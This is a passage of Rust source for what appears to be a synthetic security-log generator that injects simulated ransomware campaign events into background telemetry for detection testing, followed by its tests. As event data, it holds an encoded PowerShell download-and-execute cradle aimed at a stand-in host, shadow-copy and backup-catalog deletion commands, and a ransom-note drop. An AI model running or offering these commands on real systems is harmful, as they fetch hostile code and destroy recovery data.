    let victims: Vec<&Org> = (0..WAVE_VICTIMS.min(orgs.len()))
        .map(|j| &orgs[(wave as usize * WAVE_VICTIMS + j) % orgs.len()])
        .collect();
    // Victim hosts, within the organisation's hosts: a workstation numbered from 10 (with 60
    // hosts: 10..49) and a server numbered from 1 (1..5). With fewer than seven hosts per
    // organisation the loader's victim is a server too (and with one, the same host).
    let per_org = w.hosts_per_org;
    let ws_first = 10.min(per_org - 1);
    let ws_span = 40.min(per_org - ws_first);
    let servers = 6.min(per_org);
    let srv_first = 1.min(servers - 1);
    let srv_span = (servers - 1).clamp(1, 5);
    let mut push = |t: i64, f: &mut dyn FnMut(&mut Out, Timestamp)| {
        let mut out = Out {
            buf: Vec::new(),
            shape,
        };
        let t = Timestamp(t);
        f(&mut out, t);
        events.push((t, out.buf));
    };
    let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGkAbgB2AG8AaQBjAGUALQB2AGkAZQB3AGUAcgAuAGUAeABhAG0AcABsAGUALwB2ACcAKQA=";
    for (k, &org) in victims.iter().enumerate() {
        let n = ws_first + rng.below(ws_span);
        let h = host_of(org, n);
        let user_dir = h.user_dir.as_str();
        let temp_exe = format!("{user_dir}\\AppData\\Local\\Temp\\InvoiceViewer.exe");
        let t = base + HOUR + k as i64 * 25 * 60_000 + rng.below(120_000) as i64;
        let mut r = Rng::new(wave_seed ^ k as u64);
        push(t, &mut |o, at| {
            process(o, at, &h, &mut r, WORD, &format!("\"{WORD}\" /n \"{user_dir}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1X7\\Invoice_{}.docm\"", 4000 + k), OUTLOOK, "Medium", None)
        });
        push(t + 40_000, &mut |o, at| {
            process(
                o,
                at,
                &h,
                &mut r,
                POWERSHELL,
                &format!("powershell.exe -nop -w hidden -enc {payload}"),
                WORD,
                "Medium",
                None,
            )
        });
        push(t + 45_000, &mut |o, at| {
            dns(o, at, &h, POWERSHELL, &infra.c2_domain, &infra.c2_ip)
        });
        push(t + 47_000, &mut |o, at| {
            network(
                o,
                at,
                &h,
                &mut r,
                POWERSHELL,
                &infra.c2_ip,
                &infra.c2_domain,
            )
        });
        push(t + 60_000, &mut |o, at| {
            file(o, at, &h, POWERSHELL, &temp_exe)
        });
        push(t + 65_000, &mut |o, at| {
            process(
                o,
                at,
                &h,
                &mut r,
                &temp_exe,
                &format!("\"{temp_exe}\" /s"),
                POWERSHELL,
                "Medium",
                Some(&infra.loader_sha256),
            )
        });
    }
    let ransom_victims = RANSOM_STAGE.iter().filter_map(|&j| victims.get(j));
    for (k, &org) in ransom_victims.enumerate() {
        let h = host_of(org, srv_first + rng.below(srv_span));
        let t = base + 3 * HOUR + k as i64 * 20 * 60_000 + rng.below(120_000) as i64;
        let mut r = Rng::new(wave_seed ^ (100 + k as u64));
        push(t, &mut |o, at| {
            process(
                o,
                at,
                &h,
                &mut r,
                VSSADMIN,
                "vssadmin.exe delete shadows /all /quiet",
                CMD,
                "High",
                None,
            )
        });
        push(t + 5_000, &mut |o, at| {
            process(
                o,
                at,
                &h,
                &mut r,
                WBADMIN,
                "wbadmin delete catalog -quiet",
                CMD,
                "High",
                None,
            )
        });
        push(t + 90_000, &mut |o, at| {
            file(
                o,
                at,
                &h,
                "C:\\ProgramData\\svcupd.exe",
                "C:\\Users\\Public\\Documents\\README_NIGHTGLASS.txt",
            )
        });
    }
}

/// Write the workload (background events with the campaign waves mixed in) as JSON lines
/// to `out`; returns the number of events written.
pub fn generate(out: &mut dyn Write, w: &Workload) -> Result<u64> {
    w.check()?;
    let (events, shape) = (w.events, w.shape);
    let mut rng = Rng::new(w.seed);
    let injected = campaign_events(w);
    let mut next = injected.iter().peekable();
    let mut buf = Out {
        buf: Vec::with_capacity(1 << 20),
        shape,
    };
    let base = base_time().0;
    let mut written = 0u64;
    let mut orgs = OrgsAhead::new(&w.topology.orgs, &mut rng);
    for i in 0..events {
        let t = Timestamp(
            base + (i as i128 * SPAN as i128 / events.max(1) as i128) as i64
                + rng.below(1000) as i64,
        );
        while let Some((ct, line)) = next.peek() {
            if *ct > t {
                break;
            }
            buf.buf.extend_from_slice(line);
            written += 1;
            next.next();
        }
        let org = orgs.take(&mut rng);
        background(&mut buf, t, &mut rng, org, w.hosts_per_org);
        written += 1;
        if buf.buf.len() > (1 << 20) - 4096 {
            out.write_all(&buf.buf)?;
            buf.buf.clear();
        }
    }
    for (_, line) in next {
        buf.buf.extend_from_slice(line);
        written += 1;
    }
    out.write_all(&buf.buf)?;
    out.flush()?;
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Generate a workload into memory and parse every line.
    fn lines(w: &Workload) -> Vec<serde_json::Value> {
        let mut out = Vec::new();
        let written = generate(&mut out, w).unwrap();
        let lines: Vec<serde_json::Value> = out
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .map(|l| serde_json::from_slice(l).unwrap())
            .collect();
        assert_eq!(lines.len() as u64, written);
        lines
    }

    fn distinct(lines: &[serde_json::Value], field: &str) -> std::collections::BTreeSet<String> {
        lines
            .iter()
            .map(|l| l[field].as_str().unwrap().to_owned())
            .collect()
    }

    #[test]
    fn the_default_topology_is_the_named_organisations() {
        let t = Topology::default();
        assert_eq!(t.orgs.len(), NAMED_ORGS.len());
        for (org, named) in t.orgs.iter().zip(NAMED_ORGS) {
            assert_eq!(org.name(), named.0);
        }
    }

    #[test]
    fn organisations_spread_over_the_chosen_sectors_and_member_states() {
        let mut w = Workload::new(20_000, 3, Shape::Sysmon);
        w.topology = Topology::new(200, 18, 27).unwrap();
        w.hosts_per_org = 3;
        let events = lines(&w);
        assert_eq!(distinct(&events, "sector").len(), 18);
        assert_eq!(distinct(&events, "member_state").len(), 27);
        let orgs = distinct(&events, "organisation");
        assert!(orgs.len() > 190 && orgs.len() <= 200, "{}", orgs.len());
        let hosts = distinct(&events, "Hostname");
        assert!(hosts.len() > 500 && hosts.len() <= 600, "{}", hosts.len());

        // Fewer sectors and member states: only those appear, named organisations that do
        // not fit are replaced.
        w.topology = Topology::new(40, 2, 3).unwrap();
        let events = lines(&w);
        assert_eq!(
            distinct(&events, "sector"),
            ["energy", "health"].map(String::from).into()
        );
        assert_eq!(
            distinct(&events, "member_state"),
            ["DE", "FR", "IT"].map(String::from).into()
        );
        assert!(distinct(&events, "organisation").contains("Klinikum Nordstadt"));
        assert!(!distinct(&events, "organisation").contains("Banque Lemaire"));
    }

    #[test]
    fn campaign_waves_each_hit_six_organisations_with_their_own_infrastructure() {
        let mut w = Workload::new(10_000, 5, Shape::Sysmon);
        w.topology = Topology::new(60, 7, 13).unwrap();
        w.campaign_waves = 4;
        let events = lines(&w);
        let notes: Vec<&serde_json::Value> = events
            .iter()
            .filter(|l| {
                l["TargetFilename"]
                    .as_str()
                    .is_some_and(|f| f.ends_with("README_NIGHTGLASS.txt"))
            })
            .collect();
        assert_eq!(notes.len(), 4 * RANSOM_STAGE.len());
        let queried: std::collections::BTreeSet<&str> = events
            .iter()
            .filter_map(|l| l["QueryName"].as_str())
            .filter(|q| q.contains("invoice-viewer"))
            .collect();
        assert_eq!(queried.len(), 4, "{queried:?}");
        assert!(queried.contains(C2_DOMAIN));
        // Later waves are not subdomains of the sample feed's `invoice-viewer.example`.
        let sample_parent = C2_DOMAIN.trim_start_matches("cdn.");
        assert_eq!(
            queried
                .iter()
                .filter(|q| q.ends_with(&format!(".{sample_parent}")))
                .count(),
            1
        );
        let loader_victims: std::collections::BTreeSet<&str> = events
            .iter()
            .filter(|l| {
                l["QueryName"]
                    .as_str()
                    .is_some_and(|q| q.contains("invoice-viewer"))
            })
            .map(|l| l["organisation"].as_str().unwrap())
            .collect();
        assert_eq!(loader_victims.len(), 4 * WAVE_VICTIMS);

        w.campaign_waves = 0;
        assert!(lines_without_campaign(&w));
    }

    fn lines_without_campaign(w: &Workload) -> bool {
        lines(w).iter().all(|l| {
            l["QueryName"]
                .as_str()
                .is_none_or(|q| !q.contains("invoice-viewer"))
        })
    }

    #[test]
    fn limits_are_errors() {
        assert!(Topology::new(0, 7, 13).is_err());
        assert!(Topology::new(10, 19, 13).is_err());
        assert!(Topology::new(10, 7, 28).is_err());
        let mut w = Workload::new(10, 1, Shape::Ecs);
        w.hosts_per_org = MAX_HOSTS_PER_ORG + 1;
        assert!(generate(&mut Vec::new(), &w).is_err());
        w.hosts_per_org = 0;
        assert!(generate(&mut Vec::new(), &w).is_err());
    }
}
